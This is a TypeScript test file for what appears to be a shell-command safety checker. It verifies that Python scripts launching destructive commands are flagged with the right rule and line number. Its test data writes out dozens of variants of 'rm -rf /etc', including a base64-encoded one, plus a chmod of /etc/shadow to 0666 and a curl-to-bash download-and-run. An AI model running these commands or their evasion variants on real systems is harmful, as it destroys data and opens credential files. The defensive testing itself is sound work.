/** Commands that Python starts reach the judges of the shell, in whatever form they are started. */
import { highIn } from "../support/found";

type Row = readonly [script: string, high: readonly string[]];

const ETC = ["delete-protected@1"];

const started: readonly Row[] = [
  ['import os; os.system("rm -rf /etc")', ETC],
  ['import os as o; o.system("rm -rf /etc")', ETC],
  ['from os import system as s; s("rm -rf /etc")', ETC],
  ['from os import *; system("rm -rf /etc")', ETC],
  ['import os; os.popen("rm -rf /etc").read()', ETC],
  ['import subprocess; subprocess.run(["rm", "-rf", "/etc"])', ETC],
  ['import subprocess as sp; sp.call(("rm", "-rf", "/etc"))', ETC],
  ['import subprocess; subprocess.run("rm -rf /etc", shell=True)', ETC],
  ['import subprocess; subprocess.Popen(args=["rm", "-rf", "/etc"]).wait()', ETC],
  ['import subprocess; subprocess.check_output("rm -rf /etc".split())', ETC],
  ['import subprocess; subprocess.getoutput("rm -rf /etc")', ETC],
  ["import subprocess, shlex; subprocess.run(shlex.split(\"rm -rf '/etc'\"))", ETC],
  ['import subprocess; subprocess.run(["rm", "-rf", "etc"], cwd="/")', ETC],
  ['import subprocess; subprocess.run(["sh"], input="rm -rf /etc", text=True)', ETC],
  ['import subprocess; subprocess.run(["sh", "-c", "rm -rf /etc"])', ETC],
  ['import subprocess; subprocess.run(["sh", "-c", "rm -rf $D"], env={"D": "/etc"})', ETC],
  ['import os; os.environ["D"] = "/etc"; os.system("rm -rf $D")', ETC],
  ['import os; os.execlp("rm", "rm", "-rf", "/etc")', ETC],
  ['import os; os.execv("/bin/rm", ["rm", "-rf", "/etc"])', ETC],
  ['import os; os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "/etc")', ETC],
  ['import os; os.posix_spawn("/bin/rm", ["rm", "-rf", "/etc"], os.environ)', ETC],
  ['import sh; sh.rm("-rf", "/etc")', ETC],
  ['import pty; pty.spawn(["rm", "-rf", "/etc"])', ETC],
  ['import ctypes; ctypes.CDLL("libc.so.6").system(b"rm -rf /etc")', ETC],
  ['import os, threading; threading.Thread(target=os.system, args=("rm -rf /etc",)).start()', ETC],
  ['import os; list(map(os.system, ["ls", "rm -rf /etc"]))', ETC],
  ['import os; [os.system(c) for c in ("ls", "rm -rf /etc")]', ETC],
  [
    'import subprocess as sp\np = sp.Popen(["sh"], stdin=sp.PIPE)\np.communicate(b"rm -rf /etc")',
    ["delete-protected@3"],
  ],
  [
    'import subprocess as sp\np = sp.Popen(["sh"], stdin=sp.PIPE)\np.stdin.write(b"rm -rf /etc")\np.wait()',
    ["delete-protected@3"],
  ],
  [
    'import subprocess as sp\na = sp.Popen(["curl", "http://x"], stdout=sp.PIPE)\nsp.call(["bash"], stdin=a.stdout)',
    ["run-download@3"],
  ],
  [
    'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("rm -rf /etc")\nasyncio.run(main())',
    ["delete-protected@3"],
  ],
  [
    "from concurrent.futures import ThreadPoolExecutor as T\nimport os\nwith T(2) as pool:\n    pool.submit(os.system, 'rm -rf /etc')",
    ["delete-protected@4"],
  ],
  [
    'import os\nwith open("/tmp/x.sh", "w") as f:\n    f.write("#!/bin/sh\\nrm -rf /etc\\n")\nos.system("sh /tmp/x.sh")',
    ["delete-protected@4"],
  ],
];

const python2: readonly Row[] = [
  ['import commands\nprint commands.getoutput("rm -rf /etc")', ["delete-protected@2"]],
  ["import os\nexec \"os.system('rm -rf /etc')\"", ["delete-protected@2"]],
  [
    'import os\ntry:\n    os.popen2("rm -rf /etc")\nexcept OSError, e:\n    print e',
    ["delete-protected@3"],
  ],
  ["import os\nos.chmod('/etc/shadow', 0666)", ["open-permissions@2"]],
  ['import os, string\nos.system(string.join(["rm", "-rf", "/etc"]))', ["delete-protected@2"]],
  ['import os\nos.system("cm0gLXJmIC9ldGM=".decode("base64"))', ["delete-protected@2"]],
  ['print >>f, "rm -rf /etc"\nprint `x`', []],
];

/** The line that is named is the one where the danger stands, or the one that sets it going. */
const places: readonly Row[] = [
  ['import os\nos.system("""\nls\nrm -rf /etc\n""")', ["delete-protected@4"]],
  ['import os\nCODE = """\nls\nrm -rf /etc\n"""\nos.system(CODE)', ["delete-protected@4"]],
  ['import os\nCODE = "rm -rf /etc"\n\nos.system(CODE)', ["delete-protected@4"]],
  [
    'import subprocess\nsubprocess.run(\n    ["rm",\n     "-rf", "/etc"],\n)',
    ["delete-protected@2"],
  ],
  ['exec("""\nimport shutil\nshutil.rmtree("/etc")\n""")', ["delete-protected@3"]],
  ['\uFEFFimport os\r\nos.system("rm -rf /etc")\r\n', ["delete-protected@2"]],
];

describe("commands", () => {
  it.each(started)("%s", async (script, high) => {
    expect(await highIn("PYTHON", script)).toEqual(high);
  });
});

describe("Python 2", () => {
  it.each(python2)("%s", async (script, high) => {
    expect(await highIn("PYTHON", script)).toEqual(high);
  });
});

describe("the line of a finding", () => {
  it.each(places)("%s", async (script, high) => {
    expect(await highIn("PYTHON", script)).toEqual(high);
  });
});

it("is the same for Python that a shell starts", async () => {
  const script = "cd /\npython3 - <<'EOF'\nimport shutil\nshutil.rmtree('/etc')\nEOF\n";
  expect(await highIn("SHELL", script)).toEqual(["delete-protected@4"]);
  expect(await highIn("SHELL", "python -c 'import os; os.system(\"rm -rf /etc\")'")).toEqual(ETC);
});
